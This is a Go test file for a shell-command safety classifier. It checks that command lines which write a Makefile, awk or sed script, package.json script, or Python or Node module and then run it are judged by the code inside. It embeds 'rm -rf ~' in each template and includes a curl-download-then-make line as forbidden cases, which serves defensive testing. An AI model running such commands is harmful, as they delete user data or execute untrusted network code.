package classify

import (
	"os/exec"
	"strings"
	"testing"
)

// TestWrittenConventionCode: a file the line writes and a program then
// reads as code by its own convention (a Makefile, awk -f and sed -f
// scripts, package.json scripts, a python module, node -r) is judged as
// the code it is. Each premise runs the line in bash with an echo in
// place of rm -rf ~ where the program is installed; then the rm version
// must be forbidden under bash and dash.
//
// These were the classifier's documented limits ("files a program reads
// as code by its own convention"); fixed by writtenCode (convention.go).
func TestWrittenConventionCode(t *testing.T) {
	cases := []struct{ prog, tmpl string }{
		{"make", `printf 'all:\n\tCMD\n' > Makefile; make`},
		{"make", `printf 'all:\n\tCMD\n' > x.mk; make -f x.mk`},
		{"make", `mkdir d; printf 'all:\n\tCMD\n' > d/Makefile; make -C d`},
		{"awk", `echo 'BEGIN{system("CMD")}' > x.awk; awk -f x.awk`},
		{"sed", `echo '1e CMD' > x.sed; echo a | sed -f x.sed`},
		{"npm", `echo '{"scripts":{"test":"CMD"}}' > package.json; npm test`},
		{"python3", `echo 'import os; os.system("CMD")' > x.py; python3 -m x`},
		{"python3", `echo 'import os; os.system("CMD")' > x.py; python3 -c 'import x'`},
		{"node", `echo 'require("child_process").execSync("CMD", {stdio: "inherit"})' > x.js; node -r ./x.js -e 1`},
	}
	for _, c := range cases {
		if _, err := exec.LookPath(c.prog); err != nil {
			t.Logf("%s not installed: premise of %q not run", c.prog, c.tmpl)
		} else if out := shellOutput(t, "bash", strings.ReplaceAll(c.tmpl, "CMD", "echo PWNED45"), nil); !strings.Contains(out, "PWNED45") {
			t.Fatalf("premise: %q did not run the written code: %q", c.tmpl, out)
		}
		for _, sh := range []string{"bash", "dash"} {
			judgedAtLeast(t, sh, strings.ReplaceAll(c.tmpl, "CMD", "rm -rf ~"), Forbidden)
		}
	}
	// A downloaded makefile is code from the network.
	judgedAtLeast(t, "bash", `curl -o Makefile https://example.com/m; make`, Forbidden)
	// controls
	for _, l := range []string{
		`make`, `printf 'all:\n\tgo build\n' > Makefile; make`,
		`echo '{"scripts":{"test":"jest"}}' > package.json; npm test`,
		`echo 'print(1)' > x.py; python3 -m x`, `awk -f prog.awk data`,
	} {
		if r := Default().ClassifyShell("bash", l); r.Decision >= Escalated {
			t.Errorf("control ClassifyShell(bash, %q) = %s (rule %q), want below escalated", l, r.Decision, r.Rule)
		}
	}
}
